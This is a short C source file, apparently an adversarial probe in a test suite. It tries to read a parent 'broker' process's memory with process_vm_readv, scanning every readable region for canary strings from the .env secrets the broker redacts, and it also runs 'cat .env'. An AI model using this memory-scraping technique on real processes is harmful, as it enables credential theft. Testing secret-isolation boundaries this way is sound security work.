// technique: process_vm_readv over the broker's heap, hunting for the raw .env it redacts
#include "adv.h"
#include <sys/uio.h>
int main(void) {
	pid_t pp = getppid();
	char maps[64], line[512];
	snprintf(maps, sizeof maps, "/proc/%d/maps", pp);
	FILE *f = fopen(maps, "r");
	if (!f) { printf("maps: %s\n", strerror(errno)); }
	system("cat .env >/dev/null");
	static char buf[1 << 20];
	int tried = 0;
	while (f && fgets(line, sizeof line, f)) {
		unsigned long a, b; char perm[8];
		if (sscanf(line, "%lx-%lx %7s", &a, &b, perm) != 3 || perm[0] != 'r') continue;
		for (unsigned long o = a; o < b; o += sizeof buf) {
			struct iovec l = {buf, sizeof buf}, r = {(void *)o, (b - o) < sizeof buf ? b - o : sizeof buf};
			ssize_t n = process_vm_readv(pp, &l, 1, &r, 1, 0);
			if (!tried++) printf("process_vm_readv: %zd %s\n", n, n < 0 ? strerror(errno) : "");
			for (ssize_t i = 0; i + 7 < n; i++)
				if (!memcmp(buf + i, "CANARY-", 7)) printf("found: %.40s\n", buf + i);
		}
	}
	return 0;
}
